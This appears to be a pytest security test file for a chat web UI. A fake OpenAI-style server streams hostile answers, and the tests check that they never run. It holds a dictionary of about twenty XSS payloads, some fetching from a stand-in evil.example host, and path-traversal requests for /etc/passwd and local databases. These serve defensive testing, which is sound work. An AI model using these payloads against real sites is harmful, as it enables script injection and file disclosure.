"""What a model says is never more than text: over a server of OpenAI's protocol that says the worst."""

from __future__ import annotations

import asyncio
import json
import urllib.error
import urllib.request
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import pytest

from fake_openai import DONE, Asked, FakeServer, head, piece, serving_thread
from serve_process import ServeProcess, page_process
from ui.chromium import Chat, chromium, elsewhere, requested, until

EVIL = "https://evil.example/"
# Each would set window.hacked, or fetch from evil.example, if it came to life.
ATTACKS = {
    "script": "<script>window.hacked = 'script'</script>",
    "image": "<img src=x onerror=\"window.hacked = 'image'\">",
    "svg": "<svg onload=\"window.hacked = 'svg'\"><script>window.hacked = 'svg'</script></svg>",
    "frame": "<iframe srcdoc=\"<script>parent.hacked = 'frame'</script>\"></iframe>",
    "frame_elsewhere": f'<iframe src="{EVIL}frame"></iframe>',
    "link": "[click here](javascript:window.hacked='link')",
    "link_data": "[click here](data:text/html,<script>opener.hacked='data'</script>)",
    "markdown_image": f"![a picture]({EVIL}markdown.png)",
    "html_image": f'<img src="{EVIL}html.png">',
    "style": f"<style>@import url({EVIL}style.css); body {{ background: url({EVIL}background.png) }}</style>",
    "inline_style": f'<p style="background-image: url({EVIL}inline.png)">hello</p>',
    "form": f'<form action="{EVIL}form"><input autofocus onfocus="window.hacked=\'form\'"><button>Go</button></form>',
    "object": f'<object data="{EVIL}object"></object><embed src="{EVIL}embed">',
    "media": f'<video src="{EVIL}video" onerror="window.hacked=\'media\'" autoplay></video><audio src="{EVIL}audio">',
    "details": "<details open ontoggle=\"window.hacked = 'details'\"><summary>x</summary></details>",
    "math": "$$\\href{javascript:window.hacked='math'}{x} \\includegraphics{https://evil.example/math.png}$$",
    "mutation": "<math><mtext><table><mglyph><style><img src=x onerror=\"window.hacked = 'mutation'\">",
    "code": "```html\n<script>window.hacked = 'code'</script>\n<img src=x onerror=\"window.hacked = 'code'\">\n```",
    "mermaid": "```mermaid\ngraph TD; A[\"<img src=x onerror=window.hacked='mermaid'>\"]\n```",
    "handlebars": "{{constructor.constructor('window.hacked = 1')()}} ${window.hacked = 1} <%= window.hacked = 1 %>",
    "refresh": f'<meta http-equiv="refresh" content="0; url={EVIL}refresh"><base href="{EVIL}">',
}


async def says_the_worst(asked: Asked) -> AsyncIterator[bytes]:
    """The attack that is asked for by name, in pieces, so that each half of a mark is rendered too."""
    text = ATTACKS[asked.body["messages"][-1]["content"]]
    yield head() + piece("before ")
    for at in range(0, len(text), 7):
        yield piece(text[at : at + 7])
        await asyncio.sleep(0.005)
    yield piece(" after", finish="stop") + DONE


@pytest.fixture(scope="module")
def worst() -> Iterator[FakeServer]:
    with serving_thread(FakeServer(says_the_worst)) as fake:
        yield fake


@pytest.fixture(scope="module")
def page(worst: FakeServer, tmp_path_factory: pytest.TempPathFactory) -> Iterator[ServeProcess]:
    """`octuor ui` over the address that says the worst."""
    with page_process(tmp_path_factory.mktemp("home"), "--server", worst.url, "--key", "sk-of-the-server") as process:
        yield process


@pytest.fixture(scope="module")
def reader(page: ServeProcess, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Chat, Path]]:
    """A browser and the file in which it notes every request."""
    log = tmp_path_factory.mktemp("net") / "net.json"
    with chromium(tmp_path_factory.mktemp("profile"), f"--log-net-log={log}") as driver:
        yield Chat(driver, page.url).open(), log


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_comes_to_life(reader: tuple[Chat, Path], attack: str) -> None:
    chat, _ = reader
    chat.new()
    chat.ask(attack)
    chat.answered(1)
    for found in chat.all("#chat [data-testid='bot'] :is(a:not([href^='https:']), form button)"):  # a link is a link
        chat.script("arguments[0].target = '_self'; arguments[0].click()", found)
    # an event that is queued by what was rendered comes before a timer that begins now ends
    chat.driver.execute_async_script("setTimeout(arguments[0], 50)")
    assert chat.script("return window.hacked") is None
    assert chat.driver.current_url.startswith(chat.url)
    assert len(chat.driver.window_handles) == 1
    assert chat.script("return document.baseURI").startswith(chat.url)
    kinds = "script, iframe, object, embed, meta, base, style, [onerror], [onload], [onfocus], [ontoggle]"
    assert chat.script(f"return document.querySelectorAll('#chat [data-testid=\"bot\"] :is({kinds})').length") == 0


def test_the_attacks_are_real(reader: tuple[Chat, Path]) -> None:
    """The plainest work where nothing holds them back: the test above would see it."""
    chat, _ = reader
    chat.driver.get("data:text/html,<body></body>")
    for name in ("image", "details"):
        chat.script("window.hacked = null; document.body.innerHTML = arguments[0]", ATTACKS[name])
        until(lambda: chat.script("return window.hacked"), f"{name} to come to life")
    chat.open()


def test_the_policy_holds_where_sanitizing_fails(reader: tuple[Chat, Path]) -> None:
    """As if the page itself wrote an answer's HTML into the document."""
    chat, _ = reader
    chat.complaints()
    for name in ("image", "svg", "html_image", "inline_style", "object", "media", "frame", "form"):
        chat.script(
            "const box = document.createElement('div'); box.innerHTML = arguments[0]; document.body.append(box);"
            "for (const old of box.querySelectorAll('script')) {"
            "  const fresh = document.createElement('script'); fresh.text = old.text; old.replaceWith(fresh) }",
            ATTACKS[name],
        )
    chat.script("const s = document.createElement('script'); s.src = arguments[0]; document.body.append(s)", EVIL)
    for source in ("new Function('window.hacked = 1')()", "setTimeout('window.hacked = 1', 0)"):
        chat.script(
            "const s = document.createElement('script'); s.text = arguments[0]; document.body.append(s)", source
        )
    seen = until(lambda: chat.complaints(), "the browser to complain")
    chat.driver.execute_async_script("setTimeout(arguments[0], 50)")
    assert chat.script("return window.hacked") is None
    assert any("Content Security Policy" in line for line in seen)
    fetched = chat.driver.execute_async_script(
        "fetch(arguments[0]).then(() => arguments[1]('fetched'), e => arguments[1]('refused'))", EVIL
    )
    assert fetched == "refused"
    chat.open()


def test_code_and_formulas_are_shown(worst: FakeServer, reader: tuple[Chat, Path]) -> None:
    """What is harmless is rendered: blocks of code with a button that copies them, and LaTeX."""
    chat, _ = reader

    async def answer(_: Asked) -> AsyncIterator[bytes]:
        yield head() + piece("# Title\n\n- **bold**\n\n```python\nprint('<b>')\n```\n\n$$x^2$$ and \\(y_1\\) cost $5\n")
        yield piece(finish="stop") + DONE

    before, worst.answer = worst.answer, answer
    try:
        chat.new()
        chat.ask("Show me.")
        until(lambda: chat.answers and not chat.is_answering and chat.all("#chat .katex"), "a formula")
    finally:
        worst.answer = before
    bot = "#chat [data-testid='bot']"
    assert len(chat.all(f"{bot} .katex")) == 2
    assert [found.text for found in chat.all(f"{bot} :is(h1, strong)")] == ["Title", "bold"]
    assert "print('<b>')" in chat.one(f"{bot} pre code").text
    assert chat.all(f"{bot} :is(.code_wrap, pre) button, {bot} button[title*='opy']")
    assert "$5" in chat.answers[0]


def test_the_servers_key_stays_with_the_server(worst: FakeServer, reader: tuple[Chat, Path]) -> None:
    chat, _ = reader
    assert worst.asked[-1].headers["authorization"] == "Bearer sk-of-the-server"
    assert "sk-of-the-server" not in chat.driver.page_source
    assert "sk-of-the-server" not in json.dumps(chat.script("return window.gradio_config"))


# ---- what is reached from outside ----------------------------------------------------------------


def status_of(url: str, **headers: str) -> int:
    try:
        with urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=20) as response:
            return int(response.status)
    except urllib.error.HTTPError as error:
        with error:
            return error.code


@pytest.mark.parametrize(
    "path",
    [
        "/gradio_api/file=/etc/passwd",
        f"/gradio_api/file={Path(__file__)}",
        "/gradio_api/file=pyproject.toml",
        "/gradio_api/file=..%2f..%2fetc%2fpasswd",
        "/gradio_api/file={home}/accounts.sqlite3",
        "/gradio_api/file={home}/ui.sqlite3",
        "/gradio_api/file=https://example.org/",
        "/gradio_api/proxy=https://example.hf.space/",
        "/static/%2e%2e/%2e%2e/%2e%2e/package.json",
        "/assets/..%2f..%2f..%2f..%2fpackage.json",
        "/svelte/..%2f..%2f..%2fpackage.json",
        "/ui/..%2fui%2fsecurity.py",
        "/ui/security.py",
        "/gradio_api/info",
        "/gradio_api/openapi.json",
        "/gradio_api/runs",
        "/monitoring",
    ],
)
def test_no_file_of_the_disk_and_no_description_is_served(page: ServeProcess, path: str) -> None:
    assert status_of(page.url + path.format(home=page.home)) in (403, 404)


def test_the_page_does_not_say_what_it_is_made_of(page: ServeProcess) -> None:
    """No links to Gradio's pages about its interface, nothing that asks for sharing."""
    text = page.get("/")
    assert "og:title" not in text
    assert '"share_url": null' in text or '"share_url":null' in text or "share_url" not in text
    assert '"footer_links": []' in text or '"footer_links":[]' in text


def test_pages_of_other_sites_cannot_use_it(page: ServeProcess) -> None:
    assert status_of(f"{page.url}/config", Origin="https://evil.example") == 403
    assert status_of(page.url, Host="evil.example") == 403


# ---- the network: last, for the browser has to end -----------------------------------------------


def test_nothing_was_ever_asked_of_another_address(page: ServeProcess, tmp_path: Path) -> None:
    """Over whole visits: each tab, each language's fonts, a picture in an answer, Chromium's own requests too."""
    log = tmp_path / "net.json"
    with chromium(tmp_path / "profile", f"--log-net-log={log}") as driver:
        chat = Chat(driver, page.url).open()
        for attack in ("markdown_image", "html_image", "inline_style", "style", "media"):
            chat.new()
            chat.ask(attack)
            chat.answered(1)
        for tab in chat.all("button[role='tab']"):
            tab.click()
        chat.reload()
    asked = requested(log)
    assert any(address.startswith(page.url) for address in asked), "the log holds nothing"
    assert elsewhere(asked) == []
    assert "evil.example" not in log.read_text(errors="replace")  # nor was its name looked up


def test_the_log_of_the_network_holds_what_is_asked(page: ServeProcess, tmp_path: Path) -> None:
    """So that an empty list means something: a page without the policy that does ask elsewhere."""
    log, file = tmp_path / "net.json", tmp_path / "page.html"
    file.write_text(f'<img src="{EVIL}picture.png"><img src="{page.url}/favicon.ico">')
    with chromium(tmp_path / "profile", f"--log-net-log={log}") as driver:
        driver.get(file.as_uri())
        until(lambda: driver.execute_script("return [...document.images].every(i => i.complete)"), "both pictures")
    assert elsewhere(requested(log)) == [f"{EVIL}picture.png"]
